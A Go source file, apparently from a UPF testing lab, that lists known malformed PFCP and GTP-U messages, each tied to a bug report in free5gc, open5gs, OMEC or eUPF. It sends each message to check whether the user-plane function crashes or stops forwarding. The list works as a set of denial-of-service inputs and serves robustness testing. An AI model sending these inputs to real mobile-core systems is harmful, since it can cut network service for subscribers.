package attack

import (
	"time"

	"github.com/wmnsk/go-pfcp/ie"

	b "github.com/upflab/upflab/internal/measure/behaviour"
	"github.com/upflab/upflab/internal/measure/behaviour/fail"
	"github.com/upflab/upflab/internal/record"
)

// knownInputs lists them.
func knownInputs() []knownInput {
	filter := func(text string) []byte { return append([]byte{1, 0, byte(len(text) >> 8), byte(len(text))}, text...) }
	return []knownInput{
		{"heartbeat.empty", "A heartbeat without Recovery Time Stamp", "eUPF: found by attack.pfcp", raw(0x20, 1, 0, 0, 0, 0, 0, 0)},
		{"heartbeat.short", "A heartbeat whose Recovery Time Stamp is empty", "free5gc 483", raw(0x20, 1, 0, 0, 0, 0, 0, 0, 0, 96, 0, 0)},
		{"heartbeat.vendor", "A heartbeat with an IE of type 65535", "free5gc 482, 496",
			raw(0x20, 1, 0, 0, 0, 0, 0, 0, 0, 96, 0, 4, 0xe8, 0x1f, 0xdc, 0x30, 0xff, 0xff, 0, 1, 0)},
		{"association.empty", "An association setup without Node ID", "omec upf 979 (of a session)",
			raw(0x20, 5, 0, 0, 0, 0, 0, 0, 0, 96, 0, 4, 0xe8, 0x1f, 0xdc, 0x30)},
		{"establish.no-node", "An establishment without Node ID", "omec upf 979", edit(drop(0, ie.NodeID))},
		{"establish.no-fseid", "An establishment without F-SEID", "omec upf 957", edit(drop(0, ie.FSEID))},
		{"establish.no-rules", "An establishment without rules", "omec upf 927", edit(func(m *message) { m.ies = m.ies[:2] })},
		{"establish.empty-fseid", "An establishment with an F-SEID of one octet", "free5gc 741", edit(set(0, []byte{2}, ie.FSEID))},
		{"pdr.no-source", "A PDI without Source Interface", "eupf 631", edit(drop(0, ie.CreatePDR, ie.PDI, ie.SourceInterface))},
		{"pdr.no-pdi", "A PDR without PDI", "free5gc 802", edit(drop(0, ie.CreatePDR, ie.PDI))},
		{"pdr.no-far", "A PDR without FAR, and a packet for it", "open5gs 4179", func(g *target) []Input {
			return append(edit(drop(0, farOfPDR...))(g),
				inTunnel(0x45, 0, 0, 28, 0, 1, 0, 0, 64, 17, 0, 0, 10, 45, 0, 2, 198, 18, 0, 10, 0, 1, 0, 1, 0, 8, 0,
					0)(g)...)
		}},
		{"fteid.short", "An F-TEID of one octet", "open5gs 4152", edit(set(0, []byte{1}, fteid...))},
		{"fteid.empty", "An empty F-TEID", "open5gs 4152", edit(set(0, nil, fteid...))},
		{"fteid.choose-ipv6", "An F-TEID to be chosen of IPv6 where N3 has IPv4", "open5gs 4135", edit(set(0, []byte{0x06}, fteid...))},
		{"fteid.restoration", "A TEID of 0xffffffff that is to be restored", "open5gs 3747", func(g *target) []Input {
			return edit(func(m *message) {
				set(0, []byte{1, 0xff, 0xff, 0xff, 0xff, 192, 0, 2, 3}, fteid...)(m)
				m.ies = append(m.ies, leaf(272, 1)) // PFCPSEReq-Flags: RESTI
			})(g)
		}},
		{"sdf.cut", "A flow description that is longer than its IE", "free5gc 746", edit(set(0, []byte{1, 0, 0xff, 0xff, 'p'}, sdf...))},
		{"sdf.nonsense", "A flow description that is none", "open5gs 4151, free5gc 801", edit(set(0, filter("unknown action aaaaaaaa"), sdf...))},
		{"sdf.empty", "A flow description of no octets", "open5gs 4151", edit(set(0, filter(""), sdf...))},
		{"ohc.empty", "An empty Outer Header Creation", "open5gs 4423, 4152", edit(set(1, nil, ohc...))},
		{"ohc.no-address", "An Outer Header Creation of IPv4 without address", "eupf 630, free5gc 796",
			edit(set(1, []byte{1, 0, 0, 0, 0, 1}, ohc...))},
		{"ohc.repeated", "A short Outer Header Creation, again and again", "open5gs 4699", func(g *target) (list []Input) {
			for range 8 {
				list = append(list, edit(set(1, []byte{1, 0, 0, 0, 0, 1, 127}, ohc...))(g)...)
			}
			return list
		}},
		{"ohc.modify", "A modification that creates a FAR with an Outer Header Creation", "eupf 637", func(g *target) []Input {
			change := changed(g.sessions[0].ue, g.t.Fixture, 1)
			return []Input{{Port: N4, Data: g.peer.Modify(g.t.Writer(), g.sessions[0].seid, &change)}}
		}},
		{"urr.id", "A URR with the ID 65535", "open5gs 4169", edit(set(0, []byte{0, 0, 0xff, 0xff}, ie.CreateURR, ie.URRID))},
		{"urr.id-zero", "A URR with the ID 0", "open5gs 4169", edit(set(0, []byte{0, 0, 0, 0}, ie.CreateURR, ie.URRID))},
		{"urr.dropped-threshold", "A Dropped DL Traffic Threshold that is too short", "open5gs 4154",
			edit(add(0, ie.DroppedDLTrafficThreshold, []byte{3}, ie.CreateURR))},
		{"qer.short-mbr", "An MBR of one octet", "open5gs 4152", edit(set(0, []byte{0}, ie.CreateQER, ie.MBR))},
		{"modify.unknown-pdr", "The update of a PDR that is not there", "free5gc 800",
			modified(group(ie.UpdatePDR, leaf(ie.PDRID, 0, 99), leaf(ie.FARID, 0, 0, 0, 1)))},
		{"modify.unknown-qer", "The update of a QER that is not there", "free5gc 798",
			modified(group(ie.UpdateQER, leaf(ie.QERID, 0, 0, 0, 99)))},
		{"modify.unknown-far", "The removal of a FAR that is not there", "eupf 635", modified(group(ie.RemoveFAR, leaf(ie.FARID, 0, 0, 0, 99)))},
		{"modify.empty-pdr", "A modification with an empty Create PDR", "free5gc 802", modified(leaf(ie.CreatePDR))},
		{"delete.huge-seid", "A deletion of the highest SEID", "free5gc 731", func(g *target) []Input {
			return []Input{{Port: N4, Data: g.peer.Delete(1<<64 - 1)}}
		}},
		{"gtpu.ipv6-no-payload", "An IPv6 packet whose payload length is 0", "open5gs 4180",
			inTunnel(append([]byte{0x60, 0, 0, 0, 0, 0, 17, 64}, make([]byte, 32)...)...)},
		{"gtpu.one-octet", "A T-PDU of one octet", "open5gs 4491", inTunnel(0x45)},
		{"gtpu.cut-extension", "A G-PDU that ends in its extension headers", "open5gs 4491", func(g *target) []Input {
			return []Input{{Port: N3, Data: []byte{0x34, 0xff, 0, 5, 0, 0, 0x10, 1, 0, 0, 0, 0x85, 0xff}}}
		}},
	}
}

// step sends it, and keeps it when it does harm.
func (k *knownInput) step() b.Step {
	return b.Step{Text: "send it as a second SMF or the gNB does (reported as " + k.reported +
		"), and see whether the UPF lives and forwards for a session that no input names",
		Do: func(t *b.T) error {
			g, err := aim(t)
			if err != nil {
				return err
			}
			defer g.close()
			inputs := k.make(g)
			for _, in := range inputs {
				if err := g.send(in); err != nil {
					return err
				}
				time.Sleep(5 * time.Millisecond) // the pace
			}
			time.Sleep(50 * time.Millisecond) // the UPF has read the last one
			harm := g.harm(true)
			if harm == "" || t.Ctx.Err() != nil {
				return t.Ctx.Err()
			}
			t.Attack = &record.Attack{Inputs: uint64(len(inputs)),
				Ended: []record.Ended{{What: harm, Times: 1, Inputs: len(inputs), Repeatable: true, File: t.File}}}
			if t.File != "" {
				kept := File{Title: t.Title, UPF: t.Label, Harm: harm}
				if err := kept.Write(t.File, g.kept(inputs)); err != nil {
					return err
				}
			}
			if t.Lab.Alive() == nil { // it does not answer, or not forward
				if err := t.Restart(t.Ctx); err != nil {
					return err
				}
			}
			return &fail.Failure{Verdict: record.VerdictDied, Expected: "the UPF lives and forwards", Observed: harm}
		}}
}
